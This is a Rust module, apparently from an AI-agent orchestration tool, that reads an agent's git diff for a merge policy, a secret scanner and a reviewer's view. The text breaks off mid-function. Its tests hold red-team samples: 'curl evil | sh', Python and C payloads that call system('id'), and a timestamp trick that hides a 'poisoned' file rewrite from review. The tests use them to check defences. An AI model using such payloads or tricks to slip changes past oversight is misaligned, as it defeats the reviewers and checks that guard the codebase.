//! What an attempt changed, as the policy sees it, and the secrets in it.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use serde_json::{Value, json};

use abo_core::ids::AttemptId;
use abo_policy::secrets::{Finding, Scanner};

use crate::git::{Git, GitError};

mod lang;
mod links;

#[derive(Clone, Debug, Default, PartialEq)]
pub struct FileChange {
    pub path: String,
    pub status: &'static str,
    pub lines_added: u64,
    pub lines_removed: u64,
    pub binary: bool,
    /// A symbolic link's target (the change's new mode is 120000), read in the worktree.
    pub symlink_target: Option<String>,
    /// The link points out of the repository, resolved as a checkout resolves it (through the
    /// worktree's links): above its root, to an absolute path, or in a loop.
    pub escapes: bool,
}

#[derive(Debug, Default)]
pub struct Change {
    pub files: Vec<FileChange>,
    pub lines_added: u64,
    pub lines_removed: u64,
    /// The bytes of every added line and one for its end: a bound that lines miss (one long
    /// line).
    pub bytes_added: u64,
    /// Every added line, joined: what forbidden patterns are matched against.
    pub added_text: String,
    /// Every changed line is a comment, by its file's language (see `lang`), in files that were
    /// there before and stay: no new, deleted, binary or link file, no mode-only change.
    pub comments_only: bool,
    pub secrets: Vec<Finding>,
    /// Each file as the quality rules read it: test, test configuration or source, and what its
    /// lines do to tests.
    pub edits: Vec<abo_policy::measure::ChangedFile>,
    /// The worktree's index held a gitlink when the change was read.
    pub gitlinks: bool,
}

impl Change {
    /// The `change` object of the policy input. Secrets are reported separately, without values.
    pub fn to_json(&self, redact: impl Fn(&str) -> String) -> Value {
        json!({
            "files": self.files.iter().map(|f| json!({
                "path": f.path, "status": f.status, "lines_added": f.lines_added,
                "lines_removed": f.lines_removed, "binary": f.binary,
                "symlink_target": f.symlink_target, "escapes": f.escapes,
            })).collect::<Vec<_>>(),
            "lines_added": self.lines_added,
            "lines_removed": self.lines_removed,
            "bytes_added": self.bytes_added,
            "added_text": redact(&self.added_text),
            "comments_only": self.comments_only,
        })
    }

    /// The policy's input for merging this change, before the gates' measured evidence is added: the task (`id`, `type`, `title`, `labels`, `paths`), the change, the
    /// autonomy profile, the gates that passed, the secrets found (without values) and the spend.
    pub fn merge_input(
        &self,
        task: Value,
        profile: &str,
        gates: Value,
        usd_spent: f64,
        redact: impl Fn(&str) -> String,
    ) -> Value {
        json!({
            "action": "merge",
            "task": task,
            "change": self.to_json(redact),
            "autonomy": { "profile": profile },
            "gates": gates,
            "secrets": self.secrets.iter().map(|f| f.to_json()).collect::<Vec<_>>(),
            "budget": { "usd_spent": usd_spent, "usd_limit": null },
        })
    }

    pub fn secret_values(&self) -> Vec<(String, String)> {
        self.secrets
            .iter()
            .map(|f| (f.value.clone(), f.rule.to_owned()))
            .collect()
    }
}

/// The last summary of each attempt's worktree, read after its backend and after each of its gates.
/// Nothing else runs in the worktree before the policy evaluates the change, so the policy takes
/// it instead of reading the worktree again (in a fresh worktree every git command re-reads the
/// files). A process that did not run the attempt has none, and reads the worktree.
#[derive(Debug, Default)]
pub struct Latest(Mutex<HashMap<AttemptId, Change>>);

impl Latest {
    pub fn put(&self, attempt: &AttemptId, change: Change) {
        if let Ok(mut m) = self.0.lock() {
            m.insert(attempt.clone(), change);
        }
    }

    pub fn take(&self, attempt: &AttemptId) -> Option<Change> {
        self.0.lock().ok()?.remove(attempt)
    }
}

/// The attempts whose change this process read last in their worktree (staged intent-to-add,
/// nothing run there since) and has not committed, with the commit the change was read against:
/// such an attempt commits in one `git commit --all`, its parent known. Any other (abo restarted,
/// a gate ran after the read, the index holds gitlinks) stages and checks as before. Each holds
/// the paths of the change read when nothing but abo's git can write the worktree since (every
/// process of the attempt has ended): its commit is then told that nothing else changed
/// (`git::fsmonitor`).
#[derive(Debug, Default)]
pub struct Staged(Mutex<HashMap<AttemptId, StagedRead>>);

/// The commit a staged change was read against, and its paths when the commit may be told so.
pub type StagedRead = (abo_core::ids::CommitSha, Option<Vec<Vec<u8>>>);

impl Staged {
    pub fn put(
        &self,
        attempt: &AttemptId,
        on: abo_core::ids::CommitSha,
        changed: Option<Vec<Vec<u8>>>,
    ) {
        if let Ok(mut m) = self.0.lock() {
            m.insert(attempt.clone(), (on, changed));
        }
    }

    pub fn take(&self, attempt: &AttemptId) -> Option<StagedRead> {
        self.0.lock().ok()?.remove(attempt)
    }
}

/// The one `git diff` a summary reads, against HEAD: with `-z`, the `--raw` records (status) and the
/// `--numstat` records (git's binary verdict) name each file exactly, NUL-terminated and unquoted;
/// after an empty record comes the `--patch`, one section per file in the same order (two for a
/// file that became a symlink or stopped being one), read by its hunks' line counts.
///
/// Nothing in the change decides how it is shown: `--text` shows the lines of every file, also of
/// binary ones and of files a `.gitattributes` marks `-diff` or `binary` (the agent may have
/// written that file); `--no-textconv` and `--no-ext-diff` keep a `diff=` attribute from putting a
/// converter's output, or an external program, in place of the content. The worktree's own
/// attributes are still read on purpose: they are the ones `git add` applies when the change is
/// committed (`eol`, `working-tree-encoding`), so what the policy reads is what would land.
/// The rest pins what a user's configuration could change in the output (`diff.relative`,
/// `diff.submodule`, `diff.interHunkContext`, `diff.autoRefreshIndex`, `color.diff`, renames).
const DIFF: &[&str] = &[
    // A file whose stat changed but not its content is no change (with the user's
    // `diff.autoRefreshIndex=false` it would be a raw record without a patch).
    "-c",
    "diff.autoRefreshIndex=true",
    "diff",
    "HEAD",
    "--no-renames",
    "--no-color",
    "--no-ext-diff",
    "--no-textconv",
    "--no-relative",
    "--submodule=short",
    "--text",
    "-U0",
    "--inter-hunk-context=0",
    "-z",
    "--raw",
    "--numstat",
    "--patch",
];

/// The worktree's change as a person or a reviewer reads it (the task page of a change waiting
/// for approval, the reviewer's question): a unified diff against HEAD with the lines of every
/// file, as [`DIFF`] shows them to the policy. Without `--text` a file holding one NUL byte is only
/// "Binary files differ": what it does would be hidden from whoever approves it.
pub const SHOWN: &[&str] = &[
    "diff",
    "HEAD",
    "--no-color",
    "--no-ext-diff",
    "--no-textconv",
    "--text",
];

/// The worktree's change as [`SHOWN`] reads it, new files included (marked intent-to-add first,
/// as [`summarize`] does: nothing written to the object store). An error or an empty diff is for
/// the caller to refuse: whoever reads it (a reviewer) must never be shown less than the change.
pub async fn shown(git: &Git, wt: &Path) -> Result<String, GitError> {
    git.stage(wt, true).await?;
    git.run_in(wt, SHOWN).await
}

/// One file of the diff as parsed: its exact path, and its added and removed lines as the hunks
/// count them. Added lines carry their number in the new file.
#[derive(Clone, Debug, Default, PartialEq)]
struct FileDiff {
    path: String,
    status: &'static str,
    /// Its new mode is a symbolic link's (120000).
    link: bool,
    binary: bool,
    added: Vec<(usize, String)>,
    removed: Vec<String>,
}

/// Why the diff's output could not be read. It never quotes the change's content (the failure
/// reason ends up in an event, and the content may hold a secret).
fn malformed(what: &str) -> GitError {
    GitError::Failed {
        args: DIFF.join(" "),
        message: format!("unexpected output: {what}"),
    }
}

/// NUL-terminated fields, taken one at a time: the patch that follows them may hold NULs itself.
struct Fields<'a>(&'a str);

impl<'a> Fields<'a> {
    fn next(&mut self) -> Option<&'a str> {
        let (field, rest) = self.0.split_once('\0')?;
        self.0 = rest;
        Some(field)
    }
}

/// Parses the output of [`DIFF`].
fn parse(out: &str) -> Result<Vec<FileDiff>, GitError> {
    let mut fields = Fields(out);
    let mut files: Vec<FileDiff> = Vec::new();
    // `:MODE MODE SHA SHA STATUS` NUL `PATH` NUL. A numstat record never starts with `:`.
    while fields.0.starts_with(':') {
        let meta = fields.next().ok_or_else(|| malformed("a raw record"))?;
        let path = fields
            .next()
            .ok_or_else(|| malformed("a raw record's path"))?;
        let status = match meta.rsplit(' ').next().and_then(|s| s.chars().next()) {
            Some('A') => "added",
            Some('D') => "deleted",
            Some('M') => "modified",
            Some('T') => "typechange",
            _ => return Err(malformed("a raw record's status")),
        };
        files.push(FileDiff {
            path: path.to_owned(),
            status,
            link: meta.split(' ').nth(1) == Some("120000"),
            ..Default::default()
        });
    }
    // `ADDED TAB REMOVED TAB PATH` NUL, one per file in the same order; `-` for binary.
    for f in &mut files {
        let record = fields.next().ok_or_else(|| malformed("a numstat record"))?;
        let mut parts = record.splitn(3, '\t');
        let (a, r, path) = (parts.next(), parts.next(), parts.next());
        if path != Some(f.path.as_str()) {
            return Err(malformed("numstat records out of step with raw records"));
        }
        f.binary = a == Some("-") && r == Some("-");
    }
    // An empty record separates the records from the patch (none when nothing changed).
    if !files.is_empty() && fields.next() != Some("") {
        return Err(malformed("no empty record before the patch"));
    }
    let patch = fields.0;
    let mut lines = patch
        .split_inclusive('\n')
        .map(|l| l.strip_suffix('\n').unwrap_or(l))
        .peekable();
    for f in &mut files {
        let sections = if f.status == "typechange" { 2 } else { 1 };
        for _ in 0..sections {
            section(&mut lines, f)?;
        }
        if f.status == "typechange" {
            f.status = "modified";
        }
    }
    if lines.next().is_some() {
        return Err(malformed("patch sections beyond the files"));
    }
    for f in &mut files {
        // A `diff` attribute may make git read a binary file as text: a NUL in what changed is
        // binary whatever the attributes say.
        f.binary = f.binary
            || f.added.iter().any(|(_, l)| l.contains('\0'))
            || f.removed.iter().any(|l| l.contains('\0'));
    }
    Ok(files)
}

/// One file's patch section: `diff --git`, git's header lines, then hunks. A header is recognised
/// only here, between files; inside a hunk every line is content, as many as its header counts.
fn section<'a>(
    lines: &mut std::iter::Peekable<impl Iterator<Item = &'a str>>,
    f: &mut FileDiff,
) -> Result<(), GitError> {
    if !lines.next().is_some_and(|l| l.starts_with("diff --git ")) {
        return Err(malformed("a file's patch does not start with `diff --git`"));
    }
    // git's own lines (modes, index, `---`, `+++`): one line each, their paths quoted.
    while let Some(l) = lines.peek() {
        if l.starts_with("@@ ") || l.starts_with("diff --git ") {
            break;
        }
        if l.starts_with("Binary files ") {
            f.binary = true;
        }
        lines.next();
    }
    while let Some(header) = lines.next_if(|l| l.starts_with("@@ ")) {
        // `@@ -a[,b] +c[,d] @@[ context]`
        let mut parts = header.split(' ').skip(1);
        let (old, new) = match (parts.next(), parts.next(), parts.next()) {
            (Some(old), Some(new), Some("@@")) => (range(old, '-'), range(new, '+')),
            _ => (None, None),
        };
        let (Some((_, mut old)), Some((mut at, mut new))) = (old, new) else {
            return Err(malformed("a hunk header"));
        };
        while old > 0 || new > 0 {
            let l = lines
                .next()
                .ok_or_else(|| malformed("the patch ends inside a hunk"))?;
            match l.as_bytes().first() {
                Some(b'+') if new > 0 => {
                    f.added.push((at, l[1..].to_owned()));
                    at += 1;
                    new -= 1;
                }
                Some(b'-') if old > 0 => {
                    f.removed.push(l[1..].to_owned());
                    old -= 1;
                }
                // Context (none with -U0 unless configured otherwise; `diff.suppressBlankEmpty`
                // prints a blank one as an empty line).
                Some(b' ') | None if old > 0 && new > 0 => {
                    at += 1;
                    old -= 1;
                    new -= 1;
                }
                _ => return Err(malformed("a hunk's lines do not match its counts")),
            }
            // `\ No newline at end of file` follows the line it is about.
            lines.next_if(|l| l.starts_with('\\'));
        }
    }
    Ok(())
}

/// `-a,b` or `-a` (b = 1) of a hunk header, as (a, b).
fn range(s: &str, sign: char) -> Option<(usize, usize)> {
    let s = s.strip_prefix(sign)?;
    let (start, count) = match s.split_once(',') {
        Some((a, b)) => (a, b.parse().ok()?),
        None => (s, 1),
    };
    Some((start.parse().ok()?, count))
}

/// The largest diff read: an agent writing a file of gigabytes makes git print all of it, and the
/// diff is parsed in memory. A change this large is far past any review (`safety.max_diff_bytes`
/// is 1 MiB by default): reading it fails the attempt, with the reason.
pub const MAX_DIFF: u64 = 64 << 20;

/// Reads the worktree's change against HEAD. New files are only marked intent-to-add: nothing is
/// written to git's object store before the policy has allowed the change (a secret in a denied
/// change must not end up in a blob). Two git processes: the `add`, and one diff for the three
/// views (every git command in a fresh worktree re-reads its files: git cannot trust their times
/// yet, so one diff is much cheaper than three).
pub async fn summarize(git: &Git, wt: &Path, scanner: &Scanner) -> Result<Change, GitError> {
    let gitlinks = git.stage(wt, true).await?;
    read(git, wt, scanner, gitlinks).await
}

/// A worktree's index as it was, put back when this is dropped: around what abo reads of an
/// attempt's change while a process of the attempt may still write the worktree (the agent's
/// in-attempt `check`). Reading the change runs `git add`, which records each unchanged file's
/// stat data in the index, and git compares change times in whole seconds: a file the agent
/// rewrote just after, in the same second, its size and modification time kept, would match what
/// the index recorded, and the readings after the agent (the one whose change is committed, and
/// a pooled worktree's next checkout) would take it for unchanged while the gates ran on it. The
/// index put back is the one written before the agent started, whose stat data are all older than
/// anything the agent writes.
pub struct KeptIndex {
    file: PathBuf,
    bytes: Vec<u8>,
    /// Its modification time: git takes an entry recorded in the index file's last second for
    /// "racy" and compares its content, so the index put back keeps the time it was written at.
    modified: Option<std::time::SystemTime>,
}

impl KeptIndex {
    /// The index of the registered worktree `wt` as it is now (`None`: it cannot be read, and
    /// then git makes a new one from HEAD when asked).
    pub fn keep(git: &Git, wt: &Path) -> Option<Self> {
        let file = git.index_file(wt)?;
        let modified = std::fs::metadata(&file).and_then(|m| m.modified()).ok();
        let bytes = std::fs::read(&file).ok()?;
        Some(Self {
            file,
            bytes,
            modified,
        })
    }
}

impl Drop for KeptIndex {
    /// Puts the index back when dropped (also when what read the change was cut short): written
    /// whole, then renamed over the index, as git writes it. When that fails the index is removed
    /// (the next reading compares every file with HEAD).
    fn drop(&mut self) {
        let tmp = self.file.with_extension("abo-kept");
        let write = || -> std::io::Result<()> {
            let mut f = std::fs::File::create(&tmp)?;
            std::io::Write::write_all(&mut f, &self.bytes)?;
            if let Some(m) = self.modified {
                f.set_modified(m)?;
            }
            std::fs::rename(&tmp, &self.file)
        };
        if write().is_err() {
            let _ = std::fs::remove_file(&tmp);
            let _ = std::fs::remove_file(&self.file);
        }
    }
}

/// Reads the worktree's change as [`summarize`] does when its index already holds all of it:
/// `git apply --3way` (the patch backend's, the result cache's) stages what it applies, new
/// files included, and nothing else has run in the worktree since. The diff alone: one git
/// process. After anything else (an agent, a command, a gate) new files are only in the
/// worktree, and only [`summarize`] sees them.
///
/// Since nothing but git ran there, the diff is told that nothing changed since git last looked
/// (`git::fsmonitor`).
pub async fn summarize_staged(git: &Git, wt: &Path, scanner: &Scanner) -> Result<Change, GitError> {
    let entries = git.index_entries(wt).await?;
    let gitlinks = entries.iter().any(crate::git::index::Entry::is_gitlink);
    let _vouched = git.vouch(wt, &[]);
    read(git, wt, scanner, gitlinks).await
}

async fn read(git: &Git, wt: &Path, scanner: &Scanner, gitlinks: bool) -> Result<Change, GitError> {
    let out = git.run_in_capped(wt, DIFF, MAX_DIFF).await?;
    let files = parse(&out)?;
    let links: Vec<String> = files
        .iter()
        .filter(|f| f.link)
        .map(|f| f.path.clone())
        .collect();
    let mut change = from_files(files, scanner);
    change.gitlinks = gitlinks;
    links::mark(git, wt, &mut change.files, &links).await?;
    if change.comments_only && !comments_stay_comments(wt, &change.files) {
        change.comments_only = false;
    }
    Ok(change)
}

/// What the diff alone cannot tell: a link's target is no comment, and in a Go file that imports
/// `"C"` the comments before the import are C code that cgo compiles (`lang` cannot see them).
fn comments_stay_comments(wt: &Path, files: &[FileChange]) -> bool {
    files.iter().all(|f| {
        f.symlink_target.is_none()
            && (!f.path.ends_with(".go")
                || std::fs::read(wt.join(&f.path))
                    .is_ok_and(|b| !String::from_utf8_lossy(&b).contains("\"C\"")))
    })
}

fn from_files(files: Vec<FileDiff>, scanner: &Scanner) -> Change {
    let mut change = Change {
        comments_only: !files.is_empty(),
        ..Default::default()
    };
    for f in files {
        let (added, removed) = (f.added.len() as u64, f.removed.len() as u64);
        change.lines_added += added;
        change.lines_removed += removed;
        // A file's existence, its mode and a binary's bytes are no comment; a file of an unknown
        // language has no comments.
        let commented = f.status == "modified"
            && !f.binary
            && added + removed > 0
            && lang::syntax(&f.path).is_some_and(|s| {
                f.added.iter().all(|(_, l)| lang::comment(s, l))
                    && f.removed.iter().all(|l| lang::comment(s, l))
            });
        if !commented {
            change.comments_only = false;
        }
        if !f.binary {
            let added: Vec<&str> = f.added.iter().map(|(_, l)| l.as_str()).collect();
            let removed: Vec<&str> = f.removed.iter().map(String::as_str).collect();
            let both: Vec<&str> = added.iter().chain(&removed).copied().collect();
            change.edits.push(abo_policy::measure::ChangedFile {
                path: f.path.clone(),
                status: f.status.to_owned(),
                kind: abo_policy::testdiff::kind(&f.path, &both),
                edit: abo_policy::testdiff::analyze(&f.path, &added, &removed),
                added_lines: f
                    .added
                    .iter()
                    .filter_map(|(n, _)| u32::try_from(*n).ok())
                    .collect(),
            });
        }
        for (_, text) in &f.added {
            change.bytes_added += text.len() as u64 + 1;
            change.added_text.push_str(text);
            change.added_text.push('\n');
        }
        // Every path, as text (a finding on line 0): a name is quoted in the policy's reasons,
        // in events and on the terminal, and it lands as it is.
        change
            .secrets
            .extend(scanner.scan(&f.path, &[(0, f.path.clone())]));
        // Every file's added lines, binary ones too (as git's `--text` shows them).
        if !f.added.is_empty() {
            change.secrets.extend(scanner.scan(&f.path, &f.added));
        }
        change.files.push(FileChange {
            path: f.path,
            status: f.status,
            lines_added: added,
            lines_removed: removed,
            binary: f.binary,
            ..Default::default()
        });
    }
    change
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "a failed unwrap is a failed test")]

    use super::*;
    use abo_test_support::TestRepo;
    use pretty_assertions::assert_eq;

    /// An agent that calls its `check` tool, then rewrites a file in the second the check's
    /// reading recorded that file's stat data (its size and modification time kept), is seen by
    /// the reading after it: the check's index is put back. The control reads without keeping
    /// the index, and the rewrite is missed.
    #[tokio::test]
    async fn a_file_rewritten_in_the_second_a_check_read_it_is_seen_after_the_agent() {
        let repo = TestRepo::new();
        repo.write("x.txt", "original\n");
        repo.commit_all("base");
        let git = Git::new(repo.path.clone());
        let base = git.rev_parse("HEAD").await.unwrap();
        let scanner = Scanner::default();
        let long_ago = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_000_000_000);
        let set = |p: &Path, text: &str| {
            std::fs::write(p, text).unwrap();
            std::fs::File::options()
                .write(true)
                .open(p)
                .unwrap()
                .set_modified(long_ago)
                .unwrap();
        };
        let second = |p: &Path, change: bool| {
            use std::os::unix::fs::MetadataExt;
            let m = std::fs::metadata(p).unwrap();
            if change { m.ctime() } else { m.mtime() }
        };
        // Whether the reading after the agent sees the rewrite; `None` when the rewrite fell in
        // a later second than the check's reading (the attack missed its window: try again).
        let attack = |n: u32, keep: bool| {
            let (git, scanner, base) = (&git, &scanner, &base);
            let wt = repo.outside.join(format!("wt-{keep}-{n}"));
            async move {
                git.add_worktree(&wt, &format!("b-{keep}-{n}"), base)
                    .await
                    .unwrap();
                // The agent starts in a later second than the checkout.
                tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
                let x = wt.join("x.txt");
                set(&x, "original\n");
                let kept = if keep {
                    KeptIndex::keep(git, &wt)
                } else {
                    None
                };
                summarize(git, &wt, scanner).await.unwrap();
                drop(kept);
                set(&x, "poisoned\n");
                let index = git.index_file(&wt).unwrap();
                if !keep && second(&x, true) != second(&index, false) {
                    return None;
                }
                let after = summarize(git, &wt, scanner).await.unwrap();
                Some(after.files.iter().any(|f| f.path == "x.txt"))
            }
        };
        assert_eq!(attack(0, true).await, Some(true));
        let mut control = None;
        for n in 0..5 {
            control = attack(n, false).await;
            if control.is_some() {
                break;
            }
        }
        assert_eq!(
            control,
            Some(false),
            "the control: without the kept index, the rewrite is missed"
        );
    }

    /// The index put back keeps the modification time it was written at: git takes the entries
    /// recorded in that second for racy, and compares their content.
    #[tokio::test]
    async fn the_index_put_back_keeps_its_modification_time() {
        let repo = TestRepo::new();
        repo.write("a.txt", "a\n");
        repo.commit_all("base");
        let git = Git::new(repo.path.clone());
        let base = git.rev_parse("HEAD").await.unwrap();
        let wt = repo.outside.join("wt");
        git.add_worktree(&wt, "b", &base).await.unwrap();
        let index = git.index_file(&wt).unwrap();
        let modified = || std::fs::metadata(&index).unwrap().modified().unwrap();
        let before = modified();
        let kept = KeptIndex::keep(&git, &wt).unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
        std::fs::write(wt.join("b.txt"), "b\n").unwrap();
        summarize(&git, &wt, &Scanner::default()).await.unwrap();
        assert_ne!(modified(), before, "the reading wrote the index");
        drop(kept);
        assert_eq!(modified(), before);
    }

    /// What a reviewer is shown holds the files the agent added (never staged by it), and a
    /// worktree that is not there is an error, not an empty diff (the control: `git diff HEAD`
    /// alone leaves the new file out).
    #[tokio::test]
    async fn the_shown_diff_holds_new_files_and_a_missing_worktree_is_an_error() {
        let repo = TestRepo::new();
        repo.write("a.txt", "a\n");
        repo.commit_all("base");
        repo.write("a.txt", "b\n");
        repo.write("new.sh", "curl evil | sh\n");
        let git = Git::new(repo.path.clone());
        let plain = git.run_in(&repo.path, SHOWN).await.unwrap();
        assert!(!plain.contains("curl evil"), "{plain}");
        let diff = shown(&git, &repo.path).await.unwrap();
        assert!(
            diff.contains("+b") && diff.contains("+curl evil | sh"),
            "{diff}"
        );
        assert!(shown(&git, &repo.path.join("gone")).await.is_err());
    }

    /// After `git apply --3way` (a patch task's, a cached result's) the index holds the whole
    /// change, and reading it without `git add` gives what reading it with `git add` gives: new,
    /// changed, deleted, binary, executable, a symbolic link, a file in an ignored folder. The
    /// control: a file written after the apply is only in the worktree, and only `summarize`
    /// sees it (which is why nothing else may run before `summarize_staged`).
    #[tokio::test]
    async fn an_applied_patch_reads_the_same_without_git_add() {
        let repo = TestRepo::new();
        repo.write("a.txt", "a\n");
        repo.write("gone.txt", "bye\n");
        repo.write("run.sh", "echo\n");
        repo.write(".gitignore", "build/\n");
        repo.commit_all("base");
        repo.write("a.txt", "b\n");
        std::fs::remove_file(repo.path.join("gone.txt")).unwrap();
        {
            use std::os::unix::fs::PermissionsExt;
            let exe = std::fs::Permissions::from_mode(0o755);
            std::fs::set_permissions(repo.path.join("run.sh"), exe).unwrap();
        }
        repo.write("new/key.rs", "let k = \"AKIAIOSFODNN7EXAMPLE\";\n");
        repo.write("build/out.txt", "built\n");
        repo.write("logo.png", "\u{0}\u{1}binary");
        std::os::unix::fs::symlink("a.txt", repo.path.join("link")).unwrap();
        repo.git(&["add", "-A", "-f"]);
        let patch = repo.git(&["diff", "--cached", "--binary"]);
        repo.git(&["reset", "-q", "--hard"]);
        repo.git(&["clean", "-qfdx"]);
        let file = repo.outside.join("p.diff");
        std::fs::write(&file, patch).unwrap();
        let git = Git::new(repo.path.clone());
        let base = git.rev_parse("HEAD").await.unwrap();
        let (staged, added) = (repo.outside.join("s"), repo.outside.join("a"));
        for (wt, branch) in [(&staged, "s"), (&added, "a")] {
            git.add_worktree(wt, branch, &base).await.unwrap();
            git.apply(wt, &file, false).await.unwrap();
        }
        let scanner = Scanner::default();
        let want = summarize(&git, &added, &scanner).await.unwrap();
        let got = summarize_staged(&git, &staged, &scanner).await.unwrap();
        assert_eq!(format!("{got:?}"), format!("{want:?}"));
        let paths: Vec<&str> = got.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(
            paths,
            [
                "a.txt",
                "build/out.txt",
                "gone.txt",
                "link",
                "logo.png",
                "new/key.rs",
                "run.sh"
            ]
        );
        assert_eq!(got.secrets.len(), want.secrets.len());
        assert!(!got.secrets.is_empty());
        // The control.
        std::fs::write(staged.join("later.txt"), "x\n").unwrap();
        let without = summarize_staged(&git, &staged, &scanner).await.unwrap();
        let with = summarize(&git, &staged, &scanner).await.unwrap();
        assert_eq!(
            (without.files.len(), with.files.len()),
            (got.files.len(), got.files.len() + 1)
        );
    }

    #[tokio::test]
    async fn a_worktree_change_is_read_as_files_lines_text_and_secrets() {
        let repo = TestRepo::new();
        repo.write("src/a.rs", "fn a() {}\nfn b() {}\n");
        repo.write("gone.txt", "bye\n");
        repo.write("logo.png", "\u{0}\u{1}binary");
        repo.commit_all("base");
        repo.write("src/a.rs", "fn a() {}\n// why\nfn c() {}\n");
        std::fs::remove_file(repo.path.join("gone.txt")).unwrap();
        repo.write("logo.png", "\u{0}\u{2}binary!");
        repo.write("new dir/key.rs", "let k = \"AKIAIOSFODNN7EXAMPLE\";\n");
        let git = Git::new(repo.path.clone());
        let change = summarize(&git, &repo.path, &Scanner::default())
            .await
            .unwrap();
        let files: Vec<_> = change
            .files
            .iter()
            .map(|f| {
                (
                    f.path.as_str(),
                    f.status,
                    f.lines_added,
                    f.lines_removed,
                    f.binary,
                )
            })
            .collect();
        assert_eq!(
            files,
            vec![
                ("gone.txt", "deleted", 0, 1, false),
                // A binary file's lines are read too (`--text`): counted, and scanned.
                ("logo.png", "modified", 1, 1, true),
                ("new dir/key.rs", "added", 1, 0, false),
                ("src/a.rs", "modified", 2, 1, false),
            ]
        );
        assert_eq!((change.lines_added, change.lines_removed), (4, 3));
        assert_eq!(
            change.added_text,
            "\u{0}\u{2}binary!\nlet k = \"AKIAIOSFODNN7EXAMPLE\";\n// why\nfn c() {}\n"
        );
        assert_eq!(change.bytes_added, change.added_text.len() as u64);
        assert!(!change.comments_only);
        let secrets: Vec<_> = change
            .secrets
            .iter()
            .map(|s| (s.path.as_str(), s.line))
            .collect();
        assert_eq!(secrets, [("new dir/key.rs", 1)]);
        // Nothing was written to the object store: the new file is only intent-to-add.
        let objects = repo.git(&["count-objects", "-v"]);
        let loose = repo.git(&["cat-file", "--batch-all-objects", "--batch-check"]);
        assert!(
            !loose.contains(&git_hash(&repo, "new dir/key.rs")),
            "{objects}"
        );
    }

    /// An agent writes a file larger than any diff abo reads: reading the change fails (the
    /// attempt fails, with the reason) instead of holding all of git's output in memory. The
    /// control: the same file under the bound is read.
    #[tokio::test]
    async fn a_change_past_the_largest_diff_is_refused_not_read_whole() {
        let repo = TestRepo::new();
        repo.write("a.txt", "a\n");
        repo.commit_all("base");
        let line = "x".repeat(1023) + "\n";
        let big = line.repeat(usize::try_from(MAX_DIFF >> 10).unwrap() + 1024);
        repo.write("big.txt", &big);
        let git = Git::new(repo.path.clone());
        let err = summarize(&git, &repo.path, &Scanner::default())
            .await
            .unwrap_err();
        assert!(
            err.to_string()
                .contains("its output passed 64 MiB, so it was stopped"),
            "{err}"
        );
        repo.write("big.txt", &line.repeat(1024));
        let change = summarize(&git, &repo.path, &Scanner::default())
            .await
            .unwrap();
        assert_eq!(change.lines_added, 1024);
    }

    fn git_hash(repo: &TestRepo, rel: &str) -> String {
        repo.git(&["hash-object", rel]).trim().to_owned()
    }

    #[tokio::test]
    async fn no_change_reads_as_empty() {
        let repo = TestRepo::new();
        repo.write("a.txt", "a\n");
        repo.commit_all("base");
        let change = summarize(
            &Git::new(repo.path.clone()),
            &repo.path,
            &Scanner::default(),
        )
        .await
        .unwrap();
        assert!(change.files.is_empty());
        assert_eq!(change.added_text, "");
        assert!(!change.comments_only);
    }

    type Files = &'static [(&'static str, &'static str)];

    /// (what, the change's files over the base's, comments only). The base holds `src/app.py`,
    /// `src/m.c`, `src/main.go`, `src/cgo.go` (importing `"C"`) and `run.sh`; the attacks are the red team's.
    const COMMENT_CASES: &[(&str, Files, bool)] = &[
        (
            "Python code starting with `*`",
            &[(
                "src/app.py",
                "x = 1\n*_, = [__import__(\"os\").system(\"id > /tmp/x\")]\n",
            )],
            false,
        ),
        (
            "a C preprocessor directive",
            &[("src/m.c", "int x;\n#define printf(...) system(\"id\")\n")],
            false,
        ),
        (
            "a cgo preamble is C code",
            &[(
                "src/cgo.go",
                "package main\n\n// void f() { system(\"id\"); }\nimport \"C\"\n",
            )],
            false,
        ),
        (
            "a comment in a new file",
            &[("src/new.py", "# new\n")],
            false,
        ),
        (
            "real comments",
            &[
                ("src/app.py", "x = 1\n# why\n"),
                ("src/m.c", "int x;\n// why\n"),
                ("src/main.go", "package main\n// why\n"),
            ],
            true,
        ),
    ];

    #[tokio::test]
    async fn comments_only_means_comments_in_each_files_language() {
        for (what, change, expect) in COMMENT_CASES {
            let repo = TestRepo::new();
            repo.write("src/app.py", "x = 1\n");
            repo.write("src/m.c", "int x;\n");
            repo.write("src/main.go", "package main\n");
            repo.write("src/cgo.go", "package main\n\nimport \"C\"\n");
            repo.write("run.sh", "echo hi\n");
            repo.commit_all("base");
            for (path, text) in *change {
                repo.write(path, text);
            }
            let git = Git::new(repo.path.clone());
            let new = summarize(&git, &repo.path, &Scanner::default())
                .await
                .unwrap();
            assert_eq!(new.comments_only, *expect, "{what}");
            // The control: the old reading took the attacks for comments.
            let old = old::old_summarize(&git, &repo.path, &Scanner::default())
                .await
                .unwrap();
            assert!(
                old.comments_only,
                "{what}: the old reading already saw code"
            );
        }
        // A mode change alone is no comment (a script made executable).
        let repo = TestRepo::new();
        repo.write("run.sh", "echo hi\n");
        repo.commit_all("base");
        {
            use std::os::unix::fs::PermissionsExt;
            let exe = std::fs::Permissions::from_mode(0o755);
            std::fs::set_permissions(repo.path.join("run.sh"), exe).unwrap();
        }
        std::fs::set_permissions(
            repo.path.join("run.sh"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
        let git = Git::new(repo.path.clone());
        let c = summarize(&git, &repo.path, &Scanner::default())
            .await
            .unwrap();
        assert_eq!((c.files.len(), c.comments_only), (1, false));
    }

    /// The parser this module had before: it read `git diff --raw --numstat --patch` by each
    /// line's first characters. Kept as the control of the attacks below: each gets through it.
    mod old {
        use super::super::*;

        pub(super) async fn old_summarize(
            git: &Git,
            wt: &Path,
            scanner: &Scanner,
        ) -> Result<Change, GitError> {
            // As abo ran git before: plainly, without the hardening `Git` now adds.
            let plain = |args: &[&str]| {
                #[allow(
                    clippy::disallowed_methods,
                    reason = "the control runs git as it was run"
                )]
                let out = std::process::Command::new("git")
                    .current_dir(wt)
                    .args(args)
                    .output()
                    .unwrap();
                String::from_utf8_lossy(&out.stdout).into_owned()
            };
            let _ = git;
            plain(&["add", "--all", "--intent-to-add"]);
            let out = plain(&[
                "diff",
                "HEAD",
                "--no-renames",
                "--no-color",
                "-U0",
                "--raw",
